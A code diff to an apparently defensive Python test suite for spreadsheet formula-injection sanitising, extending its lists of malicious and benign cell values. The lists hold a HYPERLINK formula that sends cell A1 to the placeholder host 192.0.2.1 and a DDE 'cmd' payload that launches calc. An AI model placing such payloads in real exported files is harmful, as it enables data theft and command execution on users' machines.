@@ -16,7 +16,7 @@ _LINK = '=HYPERLINK("http://192.0.2.1/?"&A1,"total")'
     [
         _LINK, f" {_LINK}", f"\u00a0{_LINK}", f"\ufeff{_LINK}", f"\u200b{_LINK}", f'"{_LINK}"',
         f"''{_LINK}", f"“{_LINK}", "＝1+1", "﹦1+1", "+cmd|' /C calc'!A0", "＋1+1+cmd|x",
-        "-2+3+cmd|x", "－2+3", "@SUM(1)", "＠SUM(1)", "-1-1", "=1", "+A1", "-A1", "-1*A1", "+1(A1)",
+        "-2+3+cmd|x", "－2+3", "@SUM(1)", "＠SUM(1)", "-1-1", "=1", "+A1", "-A1", "-1*A1", "+1(A1)", "-2 [1]+A1",
         "\x00=1+1", "\x1b=1",
     ],
 )  # fmt: skip
@@ -36,7 +36,7 @@ def test_a_formula_after_what_begins_another_cell_becomes_text(separator: str) -
     [
         "", " ", "-3.5", "+7 %", "-1.234,56 €", "−3", "-1e-5", "+1 234", "-12 ms", "-", "--", "–",
         "+49 170 1234567", "-$3.50", "2024-01-02", "a = b", "x@example.org", "1-2", "harbour",
-        "北京", "'quoted'", "1 + 1",
+        "北京", "'quoted'", "1 + 1", "-58,700 [1]", "-5 [1] [12]",
     ],
 )  # fmt: skip
 def test_numbers_and_words_stay_as_they_are(cell: str) -> None:
